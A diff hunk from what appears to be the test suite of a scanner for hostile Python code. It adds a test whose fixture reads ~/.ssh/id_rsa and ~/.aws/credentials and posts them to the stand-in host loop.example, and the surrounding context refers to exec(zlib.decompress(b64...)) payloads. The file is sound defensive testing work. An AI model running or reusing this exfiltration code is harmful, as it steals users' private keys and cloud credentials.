@@ -179,6 +179,21 @@ requests.get("https://nested.example/" + R)
     assert.equal(result.targets[0].unaudited, undefined);
   });
 
+  test('a path name reassigned from itself 40 times, 16 uses each, is followed once per assignment (not 640^3 ways)', async () => {
+    const reassigned = Array.from({ length: 40 }, () => `    p = os.path.join(${Array(16).fill('p').join(', ')})`);
+    const source = [
+      'import os, requests',
+      'for t in ["~/.ssh/id_rsa", "~/.aws/credentials"]:',
+      '    p = os.path.expanduser(t)',
+      ...reassigned,
+      '    requests.post("https://loop.example/", data=open(p).read())',
+      '',
+    ].join('\n');
+    const { result, hostile } = await scanBesidePayload('reassigned', source);
+    assert.equal(networkCall(hostile)?.destination?.host, 'loop.example');
+    assert.equal(result.targets[0].unaudited, undefined);
+  });
+
   test('50 small exec(zlib.decompress(b64...)) payloads: the virtual-file budget stops the rescans and the target is unaudited', async () => {
     const payloads = Array.from({ length: 50 }, (_, index) =>
       zlibExec(`N${index} = ${index}\n${'x = 1\n'.repeat(1200)}`),
